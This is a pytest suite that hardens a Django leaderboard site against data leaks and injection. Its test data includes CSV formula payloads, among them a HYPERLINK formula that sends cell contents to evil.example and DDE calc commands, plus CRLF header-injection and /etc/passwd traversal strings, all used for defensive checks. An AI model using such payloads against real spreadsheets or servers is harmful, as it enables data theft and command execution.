"""Issue 15, item 6: what the public site leaks or lets a value inject.

Private names in the filter dropdowns, spreadsheet formulas in CSV downloads, request values in
Content-Disposition, withdrawn submissions still on view, the new API token cached, API tokens that
outlive a password change, pages without a Content-Security-Policy."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.management import call_command
from rest_framework.authtoken.models import Token

from evaluator.models import Chip
from leaderboard import services
from leaderboard.services import refresh_leaderboard_entries
from tests.factories import ChipFactory, LLMModelFactory, ScaffoldFactory, SubmissionFactory
from tests.leaderboard.conftest import evaluate

pytestmark = pytest.mark.django_db

FILTER_PAGES = ["/leaderboard/", "/leaderboard/multi-source/?chip=h200", "/leaderboard/multi-chip/"]


@pytest.fixture
def boards(world):
    """A public submission and another user's private one, each with its own model and scaffold."""
    public = SubmissionFactory(
        name="public run",
        model=LLMModelFactory(name="open-model"),
        scaffold=ScaffoldFactory(name="open-agent"),
        target_chip=world.gpu,
        uploader=world.user,
        status="complete",
    )
    private = SubmissionFactory(
        name="private run",
        model=LLMModelFactory(name="unreleased-model"),
        scaffold=ScaffoldFactory(name="stealth-agent"),
        target_chip=world.gpu,
        uploader=world.other,
        is_public=False,
        status="complete",
    )
    for submission in (public, private):
        evaluate(submission, world.operators["add"], world.gpu, speedup=1.5)
        refresh_leaderboard_entries(submission_id=submission.pk)
    return public, private


# --- private names in the filter dropdowns ---------------------------------------------------------------


@pytest.mark.parametrize("url", FILTER_PAGES)
def test_filter_dropdowns_name_no_private_model_or_scaffold(client, boards, url):
    body = client.get(url).content.decode()
    assert "open-model" in body and "open-agent" in body
    assert "unreleased-model" not in body and "stealth-agent" not in body


def test_owner_and_staff_see_their_private_names_in_the_dropdowns(client, world, boards):
    client.force_login(world.other)
    body = client.get("/leaderboard/").content.decode()
    assert "unreleased-model" in body and "stealth-agent" in body
    client.force_login(world.user)
    assert "unreleased-model" not in client.get("/leaderboard/").content.decode()


def test_a_withdrawn_submission_names_nothing_in_the_dropdowns(client, world, boards):
    public, _ = boards
    services.withdraw_submission(submission=public, user=world.staff)
    body = client.get("/leaderboard/").content.decode()
    assert "open-model" not in body and "open-agent" not in body


# --- CSV injection -------------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_download_neutralises_formula_cells(client, world, formula):
    submission = SubmissionFactory(
        name=formula,
        model=LLMModelFactory(name="\t=1+1"),
        scaffold=ScaffoldFactory(name="\r=2+2"),
        target_chip=world.gpu,
        status="complete",
    )
    evaluate(submission, world.operators["add"], world.gpu, speedup=1.5)
    refresh_leaderboard_entries(submission_id=submission.pk)
    for url in ("/leaderboard/?format=csv", "/leaderboard/multi-source/?chip=h200&format=csv"):
        rows = list(csv.reader(io.StringIO(client.get(url).content.decode())))
        cells = [cell for row in rows[1:] for cell in row]
        assert cells, url
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], url
        assert "'\t=1+1 1" in cells, url  # the model, shown as the text it is
    rows = list(csv.DictReader(io.StringIO(client.get("/leaderboard/?format=csv").content.decode())))
    assert rows[0]["name"] == "'" + formula
    # the header row too: the multi-chip columns are named after chip slugs, and a slug may start with "-"
    ChipFactory(slug="-1-cmd", name="odd chip")
    evaluate(submission, world.operators["add"], Chip.objects.get(slug="-1-cmd"), speedup=1.0, sample_index=1)
    refresh_leaderboard_entries(submission_id=submission.pk)
    header = next(csv.reader(io.StringIO(client.get("/leaderboard/multi-chip/?format=csv").content.decode())))
    assert "'-1-cmd_accuracy_pct" in header and not [c for c in header if c[:1] in ("=", "+", "-", "@")]
    # JSON is data, not a spreadsheet: the value is given as it is
    assert client.get("/leaderboard/?format=json").json()["results"][0]["name"] == formula


def test_csv_numbers_stay_numbers():
    from kgsite import downloads

    assert downloads.csv_cell(-12.5) == -12.5 and downloads.csv_cell(0) == 0
    assert downloads.csv_cell(None) == "" and downloads.csv_cell("h200") == "h200"
    assert downloads.csv_cell("-12.5") == "'-12.5"  # text that looks like a formula is text


# --- Content-Disposition -------------------------------------------------------------------------------------

HOSTILE_CHIPS = [
    "x\"; filename*=UTF-8''evil.html",
    "a\r\nSet-Cookie: sessionid=stolen",
    "a\nb",
    "é/../../etc/passwd",
]


@pytest.mark.parametrize("chip", HOSTILE_CHIPS)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_no_request_value_reaches_content_disposition(client, world, boards, chip, fmt):
    for path in ("/leaderboard/multi-source/", "/leaderboard/", "/leaderboard/multi-chip/"):
        response = client.get(path, {"chip": chip, "reference": chip, "format": fmt})
        assert response.status_code == 200, path
        disposition = response["Content-Disposition"]
        assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+"', disposition), disposition
        assert "evil" not in disposition and "passwd" not in disposition


def test_safe_filename_keeps_only_plain_characters():
    from kgsite import downloads

    assert downloads.safe_filename("multi-source-h200", "csv") == "multi-source-h200.csv"
    assert downloads.safe_filename('a"; filename*=x\r\n', "json") == "a-filename-x.json"
    assert downloads.safe_filename("\r\n", "csv") == "download.csv"


# --- withdrawn submissions ------------------------------------------------------------------------------------


def test_a_withdrawn_submission_is_no_longer_publicly_viewable(client, world, boards):
    public, _ = boards
    attempt = public.attempts.get()
    services.withdraw_submission(submission=public, user=world.staff)
    urls = [
        f"/submissions/{public.pk}/",
        f"/submissions/{public.pk}/?format=csv",
        f"/submissions/{public.pk}/progress/",
        f"/attempts/{attempt.pk}/",
        f"/api/v1/submissions/{public.pk}/",
        f"/api/v1/submissions/{public.pk}/progress/",
        f"/api/v1/attempts/{attempt.pk}/",
    ]
    for url in urls:
        assert client.get(url).status_code == 404, url
    client.force_login(world.other)  # another signed-in user
    for url in urls:
        assert client.get(url).status_code == 404, url
    for viewer in (world.user, world.staff):  # the uploader (from the account page) and staff still see it
        client.force_login(viewer)
        for url in urls:
            assert client.get(url).status_code == 200, (viewer, url)


# --- the new API token page -----------------------------------------------------------------------------------


def test_the_page_showing_a_new_api_token_is_not_stored(client, world):
    client.force_login(world.user)
    response = client.post("/accounts/token/", follow=True)
    token = Token.objects.get(user=world.user).key
    assert token in response.content.decode()
    assert "no-store" in response["Cache-Control"]
    assert "no-store" in client.get("/accounts/")["Cache-Control"]


# --- API tokens and password changes --------------------------------------------------------------------------


def _api_status(client, token: str) -> int:
    return client.get("/api/v1/submissions/?mine=1", HTTP_AUTHORIZATION=f"Token {token}").status_code


def test_a_password_change_revokes_the_api_token(client, world):
    token = services.rotate_api_token(user=world.user).key
    assert _api_status(client, token) == 200
    world.user.set_password("a brand new passphrase 42")
    world.user.save()
    assert not Token.objects.filter(user=world.user).exists()
    assert _api_status(client, token) == 401


def test_a_password_set_by_staff_in_the_admin_revokes_the_api_token(admin_client, world):
    token = services.rotate_api_token(user=world.user).key
    response = admin_client.post(
        f"/admin/auth/user/{world.user.pk}/password/",
        {"password1": "another new passphrase 7", "password2": "another new passphrase 7"},
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    assert not Token.objects.filter(key=token).exists()


def test_changepassword_command_revokes_the_api_token(world, monkeypatch):
    token = services.rotate_api_token(user=world.user).key
    monkeypatch.setattr("getpass.getpass", lambda prompt="": "command line passphrase 9")
    call_command("changepassword", world.user.username, stdout=io.StringIO())
    assert not Token.objects.filter(key=token).exists()


def test_a_rehash_at_login_keeps_the_api_token(client, world, settings):
    """Django re-hashes an unchanged password when its hasher changes; that is no password change."""
    token = services.rotate_api_token(user=world.user).key
    settings.PASSWORD_HASHERS = [
        "django.contrib.auth.hashers.PBKDF2PasswordHasher",
        "django.contrib.auth.hashers.MD5PasswordHasher",
    ]
    old_hash = world.user.password
    assert client.login(username=world.user.username, password="correct horse battery staple")
    world.user.refresh_from_db()
    assert world.user.password != old_hash  # re-hashed with the preferred hasher
    assert Token.objects.filter(key=token).exists()


# --- Content-Security-Policy ----------------------------------------------------------------------------------


def test_every_page_has_a_content_security_policy(client, world, boards):
    public, _ = boards
    attempt = public.attempts.get()
    pages = [
        "/",
        "/leaderboard/",
        "/leaderboard/multi-source/?chip=h200",
        "/leaderboard/multi-chip/",
        "/leaderboard/reported/",
        "/operators/",
        "/operators/aten::add/",
        f"/submissions/{public.pk}/",
        f"/attempts/{attempt.pk}/",
        "/api/docs/",
        "/accounts/login/",
        "/accounts/signup/",
        "/no-such-page/",
    ]
    for url in pages:
        policy = client.get(url)["Content-Security-Policy"]
        directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
        assert directives["default-src"] == "'self'", url
        assert directives["script-src"] == "'self'", url  # no inline script, no CDN, anywhere
        assert directives["object-src"] == "'none'" and directives["frame-ancestors"] == "'none'", url
        assert "http" not in policy, url
        # only the pages drawing Plotly charts allow inline styles (Plotly writes its own)
        chart_page = url.startswith(("/leaderboard/?", "/leaderboard/multi-chip/")) or url == "/leaderboard/"
        assert ("'unsafe-inline'" in directives["style-src"]) == chart_page, url


def test_templates_hold_no_inline_script_or_style():
    """What the policy refuses must not be in the pages: inline handlers, style attributes, <script> bodies."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "templates"
    offenders = []
    for path in root.rglob("*.html"):
        text = re.sub(r"{#.*?#}|{% comment %}.*?{% endcomment %}", "", path.read_text(), flags=re.S)
        if re.search(r"\son[a-z]+\s*=", text) or re.search(r"\sstyle\s*=", text) or "javascript:" in text:
            offenders.append(str(path.relative_to(root)))
        for match in re.finditer(r"<script(?P<attrs>[^>]*)>(?P<body>.*?)</script>", text, re.S):
            if match["body"].strip() and "application/json" not in match["attrs"]:
                offenders.append(f"{path.relative_to(root)}: inline <script>")
        if "<style" in text:
            offenders.append(f"{path.relative_to(root)}: <style>")
    assert offenders == []
